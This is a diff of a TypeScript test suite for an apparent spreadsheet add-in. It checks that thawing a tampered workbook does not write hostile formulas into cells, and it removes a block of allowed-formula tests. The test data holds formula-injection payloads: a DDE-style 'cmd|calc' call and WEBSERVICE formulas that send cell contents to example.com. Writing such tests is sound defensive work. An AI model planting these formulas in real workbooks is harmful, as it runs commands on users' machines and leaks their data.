@@ -1,6 +1,5 @@
 import { createFrozenStore } from '../../../src/settings/frozen-store';
 import { freeze } from '../../../src/taskpane/freeze/freezing';
-import { formulaFault } from '../../../src/taskpane/freeze/formula-fault';
 import { thaw } from '../../../src/taskpane/freeze/thawing';
 import { createFakeWorkbookParts } from '../fake-workbook-parts';
 import { createFakeGrid } from './fake-grid';
@@ -14,8 +13,10 @@ describe('a workbook that somebody has prepared', () => {
     '=LOCATTR(cmd|calc,2,3)',
     '=LOCATTR(1,2,Book!Macro(1))',
     '=LOCATTR(1,_xldudf_SEND(A1),3)',
+    `='a""b'!A1&WEBSERVICE(""https://example.com/?""&B2)&LOCATTR(1,2,""x"")`,
+    '=CONCAT(MAP(A1:A9,WEBSERVICE))&LOCATTR(1,2,""x"")',
   ])('has no %s typed into its cells', async (evil) => {
-    const grid = createFakeGrid();
+    const grid = createFakeGrid(['Sheet1', 'a"b']);
     grid.set('A1', [['=LOCATTR(1,2,"x")']]);
     grid.show('A1', 5);
     const held = createFakeWorkbookParts();
@@ -31,19 +32,5 @@ describe('a workbook that somebody has prepared', () => {
     held.held.splice(0, 1, planted);
     expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 1, problems: [] });
     expect(grid.read('A1')).toEqual([[5]]);
-  });
-});
-
-describe('what may be typed into cells', () => {
-  it.each([
-    '=LOCATTR(A1,B1,"w_pop")',
-    '=IFERROR(LOCSCORE("Shops",A2,,LOCVARS(D$1:F$1,D2:F2)),"")',
-    '=LET(x,LOCATTR([@Lat],[@Lng],"a"),IF(x>5,x,0))',
-    "=LOCATTR('Joe''s list'!A1,'My stores'!B2,\"a|b\")",
-    '=_xldudf_LOCATTR(1,2,"https://example.com/[x]y!")',
-    '=LOCATTR(Stores[Lat],Stores[[#All],[Lng]],Sheet2!A1)',
-    '=_xlfn.XLOOKUP(A1,B:B,LOCATTR(C:C,D:D,"x"))',
-  ])('is %s', (formula) => {
-    expect(formulaFault(formula)).toBeUndefined();
   });
 });
